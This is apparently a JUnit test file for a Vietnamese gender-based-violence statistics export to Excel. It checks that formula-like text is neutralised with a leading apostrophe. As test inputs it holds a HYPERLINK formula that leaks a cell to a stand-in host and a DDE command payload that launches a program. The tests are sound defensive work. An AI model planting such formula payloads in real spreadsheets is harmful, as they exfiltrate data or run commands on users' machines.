package vn.tincay.statistics;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import java.util.Locale;
import java.util.ResourceBundle;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import vn.tincay.statistics.StatTable.ChartSpec;
import vn.tincay.statistics.StatTable.ChartType;

class StatisticsWorkbookTest {

    private static final Locale VI = Locale.forLanguageTag("vi");
    private static final ResourceBundle BUNDLE = ResourceBundle.getBundle("vn.tincay.i18n.text", VI);
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Bấm vào đây\")";

    @Test
    void textsThatASpreadsheetWouldTakeForAFormulaGetALeadingApostrophe() {
        assertEquals("'" + HYPERLINK, StatisticsWorkbook.safeText(HYPERLINK));
        assertEquals("'+1+1", StatisticsWorkbook.safeText("+1+1"));
        assertEquals("'-2+3", StatisticsWorkbook.safeText("-2+3"));
        assertEquals("'@SUM(A1:A2)", StatisticsWorkbook.safeText("@SUM(A1:A2)"));
        assertEquals("'\t=1", StatisticsWorkbook.safeText("\t=1"));
        assertEquals("'\r=1", StatisticsWorkbook.safeText("\r=1"));
    }

    @Test
    void ordinaryTextsAreLeftAlone() {
        assertEquals("Huyện Demo Bình Yên", StatisticsWorkbook.safeText("Huyện Demo Bình Yên"));
        assertEquals("< 5", StatisticsWorkbook.safeText("< 5"));
        assertEquals("1=1", StatisticsWorkbook.safeText("1=1"));
        assertEquals("", StatisticsWorkbook.safeText(""));
    }

    @Test
    void aDistrictNamedLikeAFormulaIsWrittenAsHarmlessText() throws Exception {
        StatTable table = new StatTable("byDistrict", "stats.byDistrict.title", "stats.col.district",
                List.of("stats.col.incidents"),
                List.of(StatRow.of(Label.text(HYPERLINK), Cell.count(12)),
                        StatRow.of(Label.text("Huyện Demo Núi Xanh"), Cell.small()),
                        StatRow.of(Label.text("Huyện Demo Thuận Hòa"), Cell.hidden())),
                StatRow.of(Label.key("stats.total"), Cell.count(20)), StatTable.notes("stats.note.smallCounts"),
                ChartSpec.of(ChartType.HORIZONTAL_BAR, 0));
        Statistics statistics = new Statistics(StatisticsScope.Kind.PROVINCE, "=cmd|' /C calc'!A0",
                StatisticsFilter.year(2026, null), Cell.count(20), List.of(table));

        XSSFWorkbook workbook = readBack(statistics);

        for (Sheet sheet : workbook) {
            for (Row row : sheet) {
                for (org.apache.poi.ss.usermodel.Cell cell : row) {
                    assertNotEquals(CellType.FORMULA, cell.getCellType(), sheet.getSheetName() + "!" + cell.getAddress());
                }
            }
        }
        Sheet districts = workbook.getSheet("Theo quận huyện");
        assertEquals(CellType.STRING, districts.getRow(2).getCell(0).getCellType());
        assertEquals("'" + HYPERLINK, districts.getRow(2).getCell(0).getStringCellValue());
        assertEquals(12.0, districts.getRow(2).getCell(1).getNumericCellValue());
        assertEquals("< 5", districts.getRow(3).getCell(1).getStringCellValue(), "a small count stays hidden in the file");
        assertEquals("ẩn", districts.getRow(4).getCell(1).getStringCellValue());
        assertEquals("'=cmd|' /C calc'!A0", workbook.getSheet("Thông tin").getRow(2).getCell(1).getStringCellValue());
    }

    @Test
    void theFileHoldsOneSheetPerTableWithTheTableAsThePageShowsIt() throws Exception {
        StatTable byType = new StatTable("byType", "stats.byType.title", "stats.col.type",
                List.of("stats.col.incidents"),
                List.of(StatRow.of(Label.key("GbvType.RAPE"), Cell.count(3)),
                        StatRow.of(Label.key("GbvType.PHYSICAL_ASSAULT"), Cell.count(15))),
                StatRow.of(Label.key("stats.total"), Cell.count(18)), List.of(), ChartSpec.of(ChartType.BAR, 0));
        StatTable times = new StatTable("timeToClose", "stats.timeToClose.title", "stats.col.type",
                List.of("stats.col.closedCases", "stats.col.averageDays", "stats.col.medianDays"),
                List.of(StatRow.of(Label.key("GbvType.RAPE"), Cell.count(2), Cell.days(12.5), Cell.days(12.5))),
                null, List.of(), ChartSpec.of(ChartType.BAR, 1, 2));
        StatTable share = new StatTable("womenShare", "stats.womenShare.title", "register.staff.group",
                List.of("register.staff.share"),
                List.of(StatRow.of(Label.key("register.staff.group.leaders"), Cell.percent(57.1))),
                null, List.of(), ChartSpec.of(ChartType.BAR, 0));
        Statistics statistics = new Statistics(StatisticsScope.Kind.DISTRICT, "Phòng GD&ĐT Huyện Demo Bình Yên",
                StatisticsFilter.range(LocalDate.of(2026, 1, 1), LocalDate.of(2026, 5, 12), null), Cell.count(18),
                List.of(byType, times, share));

        XSSFWorkbook workbook = readBack(statistics);

        assertEquals(4, workbook.getNumberOfSheets());
        assertEquals("01/01/2026 – 12/05/2026", workbook.getSheet("Thông tin").getRow(3).getCell(1).getStringCellValue());
        Sheet sheet = workbook.getSheet("Theo loại");
        assertEquals("Vụ việc theo loại bạo lực", sheet.getRow(0).getCell(0).getStringCellValue());
        assertEquals("Loại bạo lực", sheet.getRow(1).getCell(0).getStringCellValue());
        assertEquals("Hiếp dâm", sheet.getRow(2).getCell(0).getStringCellValue());
        assertEquals(15.0, sheet.getRow(3).getCell(1).getNumericCellValue());
        assertEquals("Tổng", sheet.getRow(4).getCell(0).getStringCellValue());
        assertEquals(18.0, sheet.getRow(4).getCell(1).getNumericCellValue());
        assertEquals(12.5, workbook.getSheet("Thời gian xử lý").getRow(2).getCell(2).getNumericCellValue());
        assertEquals(0.571, workbook.getSheet("Tỉ lệ nữ").getRow(2).getCell(1).getNumericCellValue(),
                "57,1 % is the fraction 0.571 in a percent-formatted cell, without floating-point dust");
        assertEquals("0.0%", workbook.getSheet("Tỉ lệ nữ").getRow(2).getCell(1).getCellStyle().getDataFormatString());
    }

    private static XSSFWorkbook readBack(Statistics statistics) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        StatisticsWorkbook.write(statistics, BUNDLE, VI, LocalDateTime.of(2026, 11, 22, 10, 30), out);
        assertTrue(out.size() > 0);
        return new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()));
    }
}
